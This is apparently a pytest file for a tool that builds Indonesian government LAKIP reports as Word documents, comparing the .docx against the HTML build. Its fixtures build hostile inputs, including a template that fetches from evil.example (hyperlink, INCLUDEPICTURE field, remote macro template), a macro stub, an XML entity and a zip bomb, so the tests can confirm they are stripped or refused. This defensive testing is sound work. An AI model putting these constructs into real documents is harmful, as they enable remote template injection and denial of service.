"""The Word document: ``lakip build --docx`` writes ``lakip-<year>.docx`` from the same report as the HTML.

The sample's build is the one the browser tests share (``browser_support.sample_build``, run once per session
with ``--pdf --docx``; it needs no Chromium). The document is read back with python-docx and compared with the
HTML of the same build: headings, captions, every cell of every numbered table, fields, tables, figures, page
setup, personal data. Two more builds show that the bytes are the same every time and that ``--docx`` after a
build without it builds the year; one more fills an agency's template (own heading font, a kop surat in the
header, and a link, a fetching field and a remote template that must not survive). LibreOffice converts the
document to PDF to show that it opens, prints every table number and keeps tables inside the page; without
``soffice`` that test is skipped locally and fails under ``CI=true`` (``.ci/run`` installs it).
"""

from __future__ import annotations

import io
import os
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest
import yaml
from bs4 import BeautifulSoup
from docx import Document
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from docx.oxml import OxmlElement
from docx.oxml.ns import qn
from docx.shared import Cm, Emu, Pt, RGBColor
from docx.text.paragraph import Paragraph
from PIL import Image
from pypdf import PdfReader

from browser_support import SAMPLE, acknowledged_build, on_ci, sample_build
from corpus import sample_copy
from lakip_lib.cli import main
from lakip_lib.errors import ConfigError, InputError, UnsafeInputError
from lakip_lib.loading.workbook import check_document
from lakip_lib.presentation.docx import _open_template

pytestmark = pytest.mark.slow

W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
KOP = "PEMERINTAH PROVINSI BENGKULU"
ATTACHED_TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
#: a caption's number, as the report's structure gives it (lakip_lib.presentation.outline)
NUMBER = re.compile(r"^(Tabel|Gambar) \d\.\d+$")


def words(text: str) -> str:
    return " ".join(text.split())


@pytest.fixture(scope="module")
def built(tmp_path_factory) -> Path:
    return sample_build(tmp_path_factory)


@pytest.fixture(scope="module")
def document(built):
    return Document(str(built / "lakip-2024.docx"))


@pytest.fixture(scope="module")
def page(built) -> BeautifulSoup:
    return BeautifulSoup((built / "lakip-2024.html").read_text(encoding="utf-8"), "html.parser")


@pytest.fixture(scope="module")
def parts(built) -> dict[str, str]:
    """Every XML part of the document, by name."""
    with zipfile.ZipFile(built / "lakip-2024.docx") as archive:
        return {name: archive.read(name).decode("utf-8") for name in archive.namelist() if name.endswith((".xml", ".rels"))}


def blocks(document) -> list:
    """The body in order: ("p", style, text, element) and ("tbl", table element)."""
    out = []
    for child in document.element.body:
        if child.tag == f"{W}p":
            name = Paragraph(child, document.part).style.name
            out.append(("p", name, words("".join(t.text or "" for t in child.iter(f"{W}t"))), child))
        elif child.tag == f"{W}tbl":
            out.append(("tbl", child))
    return out


def cells(table) -> list[list[str]]:
    """Each row's cells as text; a cell merged into the one above it (an HTML rowspan) is not one of its row's."""
    def continued(tc) -> bool:
        merge = tc.find(f"{W}tcPr/{W}vMerge")
        return merge is not None and merge.get(f"{W}val") != "restart"

    return [[words("".join(t.text or "" for t in tc.iter(f"{W}t"))) for tc in tr.iter(f"{W}tc") if not continued(tc)]
            for tr in table.iter(f"{W}tr")]


def numbers(page: BeautifulSoup, word: str) -> list[str]:
    """The numbers of the HTML's tables (``Tabel``) or figures (``Gambar``), in page order."""
    return [span.get_text() for span in page.select("figure figcaption .number") if span.get_text().startswith(word)]


def html_table(figure) -> list[list[str]]:
    return [[words(cell.get_text()) for cell in row.find_all(["th", "td"])] for row in figure.find_all("tr")]


# ---------------------------------------------------------------- structure


def test_headings_are_words_heading_styles_in_the_reports_order(document, page):
    expected = [(f"Heading {min(int(h.name[1]) - 1, 4)}", words(h.get_text()))
                for section in page.select("section.chapter") for h in section.find_all(["h2", "h3", "h4", "h5", "h6"])]
    found = [(name, text) for kind, name, text, *_ in (b for b in blocks(document) if b[0] == "p") if name.startswith("Heading")]
    assert found == expected
    assert [text for name, text in found if name == "Heading 1"] == [
        "RINGKASAN EKSEKUTIF", "KATA PENGANTAR", "BAB I PENDAHULUAN", "BAB II PERENCANAAN STRATEGIS DAN PERJANJIAN KINERJA",
        "BAB III AKUNTABILITAS KINERJA DAN KEUANGAN", "BAB IV PENUTUP", "Lampiran: Berkas Masukan"]
    chapters = [b[3] for b in blocks(document) if b[0] == "p" and b[1] == "Heading 1"]
    assert all(p.find(f"{W}pPr/{W}pageBreakBefore") is not None for p in chapters)  # each chapter on a new page


def test_every_numbered_table_and_figure_has_its_caption(document, page):
    captions = [text for kind, name, text, *_ in (b for b in blocks(document) if b[0] == "p") if name == "Caption"]
    html = [words(c.get_text()) for c in page.select("figure figcaption")]
    assert captions == html
    # every caption numbered, once: the reference's 13 tables and 3 figures, the others the report adds
    assert all(NUMBER.match(" ".join(c.split()[:2])) for c in captions) and len(set(captions)) == len(captions) >= 16 + 7
    assert [" ".join(c.split()[:2]) for c in captions if c.startswith("Tabel")] == numbers(page, "Tabel")
    assert [" ".join(c.split()[:2]) for c in captions if c.startswith("Gambar")] == numbers(page, "Gambar")
    budget = words(page.select_one("#tabel-3-7 figcaption").get_text())
    assert budget.endswith(" Anggaran dan Realisasi Belanja Program Kepegawaian Daerah Tahun 2024") and budget in captions


def test_each_table_cell_equals_the_htmls(document, page):
    body = blocks(document)
    tables = {}
    for index, block in enumerate(body):
        if block[0] == "p" and block[1] == "Caption" and index + 1 < len(body) and body[index + 1][0] == "tbl":
            tables[block[2]] = cells(body[index + 1][1])
    compared = 0
    for figure in page.select("figure.table"):
        caption = words(figure.figcaption.get_text())
        assert tables[caption] == html_table(figure), caption
        compared += 1
    assert compared == len(page.select("figure.table")) >= 13
    # the tables the report lays out itself: efficiency, findings, input files
    laid_out = [html_table(t) for t in page.select("div.scroll > table")]
    assert laid_out and all(t in [cells(b[1]) for b in body if b[0] == "tbl"] for t in laid_out)


def test_numbers_dates_and_words_are_indonesian(document):
    text = words(" ".join(p.text for p in document.paragraphs) + " " +
                 " ".join(c.text for t in document.tables for row in t.rows for c in row.cells))
    for shown in ("13.201.715.554", "13.133.420.294", "3.698.626.072", "98,56%", "Rp 16.832.046.366", "43,69%",
                  "Bengkulu, 29 Januari 2025", "Tercapai"):
        assert shown in text, shown
    assert not re.search(r"\d,\d{3},\d{3}", text)  # no English thousands separators
    assert "2025-01-29" not in text


def test_contents_lists_and_captions_are_word_fields(parts, document, page):
    instructions = [words(m) for m in re.findall(r"<w:instrText[^>]*>([^<]*)</w:instrText>", parts["word/document.xml"])]
    assert 'TOC \\o "1-3" \\h \\z \\u' in instructions
    assert 'TOC \\h \\z \\c "Tabel"' in instructions and 'TOC \\h \\z \\c "Gambar"' in instructions
    for word in ("Tabel", "Gambar"):  # what Word's Daftar Tabel and Daftar Gambar collect, with the report's numbers
        assert [i for i in instructions if i.startswith(f"SEQ {word}")] == [
            f"SEQ {word} \\* ARABIC \\r {n.split('.')[1]}" for n in numbers(page, word)]
    assert [i for i in instructions if not i.startswith(("TOC", "SEQ"))] == []
    footer = next(text for name, text in parts.items() if name.startswith("word/footer"))
    assert "PAGE" in footer  # page numbers
    assert '<w:updateFields w:val="true"/>' in parts["word/settings.xml"]  # Word offers to fill the lists on opening
    titles = [p.text for p in document.paragraphs if p.style.name == "TOC Heading"]
    assert titles == ["DAFTAR ISI", "DAFTAR TABEL", "DAFTAR GAMBAR"]


def test_tables_are_real_word_tables_that_fit_the_page(document):
    section = document.sections[-1]
    usable = Emu(section.page_width - section.left_margin - section.right_margin)
    assert len(document.tables) >= 16
    for table in document.tables:
        tbl = table._tbl
        assert tbl.find(f"{W}tblPr/{W}tblBorders") is not None
        rows = tbl.findall(f"{W}tr")
        assert rows[0].find(f"{W}trPr/{W}tblHeader") is not None  # repeated on every page
        assert all(row.find(f"{W}trPr/{W}cantSplit") is not None for row in rows)  # never split
        assert tbl.find(f"{W}tblPr/{W}tblLayout").get(f"{W}type") == "fixed"
        grid = sum(int(col.get(f"{W}w")) for col in tbl.iter(f"{W}gridCol"))
        assert grid <= usable.twips + 1
    # the assets' header of two rows, both repeated on every page: KONDISI and JUMLAH merged over their two columns,
    # No, Sarana and Ket over both rows
    assets = next(t for t in document.tables if t.rows[1].cells[2].text == "Baik")
    upper, lower = assets._tbl.findall(f"{W}tr")[:2]
    assert all(row.find(f"{W}trPr/{W}tblHeader") is not None for row in (upper, lower))
    assert [(words("".join(x.text or "" for x in tc.iter(f"{W}t"))), tc.find(f"{W}tcPr/{W}gridSpan") is not None)
            for tc in upper.findall(f"{W}tc")] == [("No", False), ("Sarana", False), ("Kondisi", True), ("Jumlah", True), ("Ket", False)]
    assert cells(assets._tbl)[1] == ["Baik", "Rusak", "Mencukupi", "Kurang"]
    # numbers are right-aligned, text left: Tabel 1.4 (No, Golongan, Jumlah, Persentase)
    grades = next(t for t in document.tables if t.rows[0].cells[1].text == "Golongan")
    assert [c.paragraphs[0].alignment for c in grades.rows[1].cells] == [2, 0, 2, 2]  # RIGHT, LEFT, RIGHT, RIGHT


def test_figures_are_print_resolution_pngs_with_the_htmls_alt_text(document, page, parts):
    alts = [svg["aria-label"] for svg in page.select("figure.chart > svg")]
    described = re.findall(r'<wp:docPr [^>]*descr="([^"]*)"', parts["word/document.xml"])
    assert [words(d.replace("&amp;", "&").replace("&quot;", '"').replace("&lt;", "<").replace("&gt;", ">")) for d in described] == \
        [words(a) for a in alts]
    assert len(alts) == 15  # Gambar 1.2–1.7, 3.1, each indicator's trend (3.2–3.8) and the budget's (3.9)
    for shape in document.inline_shapes:
        blob = shape._inline.graphic.graphicData.pic.blipFill.blip.embed
        image = document.part.related_parts[blob]
        assert image.content_type == "image/png"
        with Image.open(io.BytesIO(image.blob)) as png:
            dpi = png.width / shape.width.inches
        assert dpi >= 290, dpi  # as printed, at the width it is placed


def test_a4_with_government_margins_a_cover_and_the_signature(document):
    section = document.sections[0]
    assert (round(section.page_width.cm, 1), round(section.page_height.cm, 1)) == (21.0, 29.7)
    assert [round(x.cm, 2) for x in (section.top_margin, section.bottom_margin, section.left_margin, section.right_margin)] == \
        [2.5, 2.5, 3.0, 2.0]
    assert section.different_first_page_header_footer  # no page number on the cover
    first = [p.text for p in document.paragraphs[:3]]
    assert first == ["LAPORAN AKUNTABILITAS KINERJA INSTANSI PEMERINTAH (LAKIP)",
                     "Badan Kepegawaian Daerah Provinsi Bengkulu", "TAHUN 2024"]
    texts = [p.text for p in document.paragraphs]
    name = texts.index("GUNAWAN SURYADI, S. Sos, M.A.P")
    assert texts[name - 2:name + 2] == ["Bengkulu, 29 Januari 2025", "Kepala Badan Kepegawaian Daerah Provinsi Bengkulu",
                                        "GUNAWAN SURYADI, S. Sos, M.A.P", "Pembina Utama Madya / IV.D"]
    properties = document.core_properties
    assert (properties.author, properties.revision, properties.created.year, properties.modified.year) == ("lakip-kit", 1, 2000, 2000)


def test_no_roster_name_or_nip_anywhere_in_the_document(parts):
    import pandas as pd

    roster = pd.read_excel(SAMPLE / "2024" / "pegawai.xlsx", header=4, dtype=str, engine="calamine")
    names = [n.strip() for n in roster["NAMA"].dropna()]
    nips = [n.replace(" ", "") for n in roster["NIP BARU"].dropna()]
    assert len(names) > 100
    for name, xml in parts.items():
        text = " ".join(re.sub(r"<[^>]+>", " ", xml).split())
        unhashed = re.sub(r"(?<![0-9a-f])[0-9a-f]{64}(?![0-9a-f])", "", text)  # the appendix's SHA-256 of each input
        assert not re.search(r"(?<!\d)\d{18}(?!\d)", unhashed.replace(" ", "")), name
        assert [n for n in names if n in text] == [], name
        assert [n for n in nips if n in text.replace(" ", "")] == [], name


# ---------------------------------------------------------------- builds


def test_the_samples_draft_is_marked_in_the_header_of_every_page_and_its_flagged_rows_noted(document):
    section = document.sections[-1]
    assert section.different_first_page_header_footer
    for header in (section.header, section.first_page_header):  # the cover's, and every other page's
        assert header.paragraphs[0].text == "DRAFT — belum final"
    texts = [p.text for p in document.paragraphs]
    assert texts[0] == "LAPORAN AKUNTABILITAS KINERJA INSTANSI PEMERINTAH (LAKIP)"  # the band's text is the HTML's alone
    mutasi = next(t for t in document.tables if any(c.text == "Mutasi dan Promosi ASN *2)" for c in t.columns[1].cells))
    assert mutasi.columns[1].cells[1].text == "Program Kepegawaian Daerah *1)"
    assert sum(t.startswith(("*1) Kesalahan data, belum diperbaiki", "*2) Kesalahan data, belum diperbaiki")) for t in texts) == 2


def test_a_document_whose_errors_are_explained_has_no_draft_mark(tmp_path_factory):
    status, _, year = acknowledged_build(tmp_path_factory)
    assert status == 0
    document = Document(str(year / "lakip-2024.docx"))
    section = document.sections[-1]
    headers = [p.text for h in (section.header, section.first_page_header) for p in h.paragraphs]
    assert not any("DRAFT" in text for text in headers)
    assert any(p.text.endswith("Penjelasan instansi: angka realisasi sesuai SP2D; tabel laporan lama salah ketik")
               for p in document.paragraphs)


def test_the_same_inputs_give_the_same_bytes_and_docx_builds_a_year_built_without_it(built, tmp_path, capsys):
    out = tmp_path / "out"
    assert main(["build", "--year", "2024", "--data", str(SAMPLE), "--out", str(out)]) == 0
    assert not (out / "2024" / "lakip-2024.docx").exists()
    capsys.readouterr()
    assert main(["build", "--year", "2024", "--data", str(SAMPLE), "--out", str(out), "--docx"]) == 0
    assert "2024: built" in capsys.readouterr().out  # not "skipped": the year had no Word document
    assert (out / "2024" / "lakip-2024.docx").read_bytes() == (built / "lakip-2024.docx").read_bytes()
    assert main(["build", "--year", "2024", "--data", str(SAMPLE), "--out", str(out), "--docx"]) == 0
    assert "2024: skipped" in capsys.readouterr().out
    record = (out / "2024" / ".lakip-build.json").read_text(encoding="utf-8")
    assert '"lakip-2024.docx"' in record  # in the list of outputs, with its SHA-256


def make_template(path: Path) -> None:
    """A small agency template: its own heading font and size, a kop surat (logo and text) in the header, a 4 cm
    left margin; and what must not survive: a link and a fetching field in the header, a remote attached template,
    the template's own body text."""
    template = Document()
    heading = template.styles["Heading 1"]
    heading.font.name, heading.font.size, heading.font.color.rgb = "Georgia", Pt(18), RGBColor(0x80, 0, 0)
    section = template.sections[0]
    section.left_margin = Cm(4)
    header = section.header
    logo = io.BytesIO()
    Image.new("RGB", (60, 60), (200, 30, 30)).save(logo, "PNG")
    header.paragraphs[0].add_run().add_picture(logo, width=Cm(1.5))
    header.paragraphs[0].add_run(KOP)
    line = header.add_paragraph("Jalan Pembangunan No. 1 Bengkulu ")
    link = OxmlElement("w:hyperlink")
    link.set(qn("r:id"), header.part.relate_to("http://evil.example/kop", RT.HYPERLINK, is_external=True))
    run = OxmlElement("w:r")
    text = OxmlElement("w:t")
    text.text = "situs"
    run.append(text)
    link.append(run)
    line._p.append(link)
    field = OxmlElement("w:fldSimple")
    field.set(qn("w:instr"), 'INCLUDEPICTURE "http://evil.example/logo.png" \\d')
    header.add_paragraph()._p.append(field)
    attached = OxmlElement("w:attachedTemplate")
    attached.set(qn("r:id"), template.part._settings_part.relate_to("http://evil.example/makro.dotm", ATTACHED_TEMPLATE,
                                                               is_external=True))
    template.settings.element.insert(0, attached)
    template.add_paragraph("ISI TEMPLAT LAMA")
    template.save(str(path))


def test_the_agencys_template_keeps_its_styles_and_kop_and_loses_what_fetches(tmp_path):
    data = sample_copy(tmp_path / "raw")
    (data / "templat").mkdir()
    make_template(data / "templat" / "lakip.docx")
    project = yaml.safe_load((data / "lakip.yml").read_text(encoding="utf-8"))
    project["report"]["docx_template"] = "templat/lakip.docx"
    (data / "lakip.yml").write_text(yaml.safe_dump(project, allow_unicode=True), encoding="utf-8")
    out = tmp_path / "out"
    assert main(["build", "--year", "2024", "--data", str(data), "--out", str(out), "--docx"]) == 0
    path = out / "2024" / "lakip-2024.docx"
    document = Document(str(path))
    heading = document.styles["Heading 1"]
    assert (heading.font.name, heading.font.size, heading.font.color.rgb) == ("Georgia", Pt(18), RGBColor(0x80, 0, 0))
    assert "BAB I PENDAHULUAN" in [p.text for p in document.paragraphs if p.style.name == "Heading 1"]
    section = document.sections[-1]
    assert round(section.left_margin.cm, 1) == 4.0
    # the sample is a draft: its mark heads every page, above the kop surat, which stays
    assert section.header.paragraphs[0].text == "DRAFT — belum final"
    assert KOP in section.header.paragraphs[1].text
    assert any(rel.reltype == RT.IMAGE for rel in section.header.part.rels.values())  # the logo stays
    usable = Emu(section.page_width - section.left_margin - section.right_margin)
    assert all(sum(int(c.get(f"{W}w")) for c in t._tbl.iter(f"{W}gridCol")) <= usable.twips + 1 for t in document.tables)
    with zipfile.ZipFile(path) as archive:
        xml = {name: archive.read(name).decode("utf-8") for name in archive.namelist() if name.endswith((".xml", ".rels"))}
    assert [name for name, text in xml.items() if 'TargetMode="External"' in text] == []
    assert [name for name, text in xml.items() if "evil.example" in text or "INCLUDEPICTURE" in text] == []
    assert "attachedTemplate" not in xml["word/settings.xml"]
    assert "ISI TEMPLAT LAMA" not in xml["word/document.xml"]
    assert "situs" in xml[next(n for n in xml if n.startswith("word/header"))]  # the link's text stays, as text
    # the template is one of the year's inputs: hashed in the build record and named in the appendix
    html = (out / "2024" / "lakip-2024.html").read_text(encoding="utf-8")
    assert "templat/lakip.docx" in html
    assert "templat/lakip.docx" in (out / "2024" / ".lakip-build.json").read_text(encoding="utf-8")


def test_templates_that_are_not_safe_word_documents_are_refused(tmp_path):
    missing = tmp_path / "tidak-ada.docx"
    with pytest.raises(ConfigError, match="names 'templat.docx', which is not in the data folder"):
        _open_template(missing, {}, "templat.docx")
    text = tmp_path / "teks.docx"
    text.write_text("bukan dokumen", encoding="utf-8")
    with pytest.raises(InputError, match="teks.docx: got 'a file that is not a Word document'"):
        _open_template(text, {}, "teks.docx")
    workbook = tmp_path / "buku.docx"
    shutil.copyfile(SAMPLE / "2024" / "anggaran.xlsx", workbook)  # a zip, but a workbook
    with pytest.raises(InputError, match="buku.docx: got 'an Excel workbook'"):
        _open_template(workbook, {}, "buku.docx")
    macro = tmp_path / "makro.docx"  # a .docm renamed
    make_template(macro)
    with zipfile.ZipFile(macro, "a") as archive:
        archive.writestr("word/vbaProject.bin", b"\0" * 64)
    with pytest.raises(InputError, match="a document with macros"):
        _open_template(macro, {}, "makro.docx")
    entities = tmp_path / "entitas.docx"
    make_template(entities)
    with zipfile.ZipFile(entities, "a") as archive:
        archive.writestr("word/extra.xml", '<!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>')
    with pytest.raises(UnsafeInputError, match="XML entities"):
        check_document(entities)
    bomb = tmp_path / "bom.docx"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", b"<a>" + b" " * (8 << 20) + b"</a>")
    with pytest.raises(UnsafeInputError, match="zip bomb"):
        check_document(bomb, {"max_compression_ratio": 100})


def test_a_missing_template_fails_the_year_in_one_line(tmp_path, capsys):
    data = sample_copy(tmp_path / "raw")
    project = yaml.safe_load((data / "lakip.yml").read_text(encoding="utf-8"))
    project["report"]["docx_template"] = "hilang.docx"
    (data / "lakip.yml").write_text(yaml.safe_dump(project, allow_unicode=True), encoding="utf-8")
    assert main(["build", "--year", "2024", "--data", str(data), "--out", str(tmp_path / "out"), "--docx"]) == 1
    # said in the kernel, in the build's language: Indonesian by default
    assert "2024: FAILED: lakip.yml: report.docx_template menyebut 'hilang.docx', yang tidak ada di folder data" in \
        capsys.readouterr().err
    assert not (tmp_path / "out" / "2024").exists()


# ---------------------------------------------------------------- LibreOffice


def soffice_or_skip() -> str:
    """LibreOffice's ``soffice``; without it, skip the calling test locally and fail it under ``CI=true``."""
    found = shutil.which("soffice") or shutil.which("libreoffice")
    if found:
        return found
    reason = "no LibreOffice (soffice) on the PATH: apt-get install libreoffice-writer-nogui"
    if on_ci():
        pytest.fail(f"CI=true but the LibreOffice test cannot run: {reason}", pytrace=False)
    pytest.skip(f"LibreOffice test not run: {reason}")


@pytest.fixture(scope="module")
def printed(built, tmp_path_factory) -> Path:
    soffice = soffice_or_skip()
    folder = tmp_path_factory.mktemp("soffice")
    # a profile of its own: a LibreOffice the user has open, or another test run, cannot lock this one out
    command = [soffice, f"-env:UserInstallation={(folder / 'profile').as_uri()}", "--headless", "--convert-to", "pdf",
               "--outdir", str(folder), str(built / "lakip-2024.docx")]
    run = subprocess.run(command, stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=300,
                         env={**os.environ, "HOME": str(folder)})
    assert run.returncode == 0 and (folder / "lakip-2024.pdf").is_file(), run.stderr
    return folder / "lakip-2024.pdf"


def test_libreoffice_prints_every_table_number_within_the_page(printed, document, page):
    reader = PdfReader(printed)
    assert 15 <= len(reader.pages) <= 40
    text = words(" ".join(sheet.extract_text() for sheet in reader.pages))
    for number in numbers(page, "Tabel") + numbers(page, "Gambar"):
        assert f"{number} " in text, number
    assert "13.201.715.554" in text and "BAB IV PENUTUP" in text
    # nothing starts right of the text area: a table wider than the page would put its last columns there
    section = document.sections[-1]
    right = Emu(section.page_width - section.right_margin).pt
    starts = []
    for sheet in reader.pages:
        assert float(sheet.mediabox.width) == pytest.approx(595.3, abs=1)  # A4
        sheet.extract_text(visitor_text=lambda t, cm, tm, *_: starts.append(tm[4] * cm[0] + cm[4]) if t.strip() else None)
    assert starts and max(starts) < right
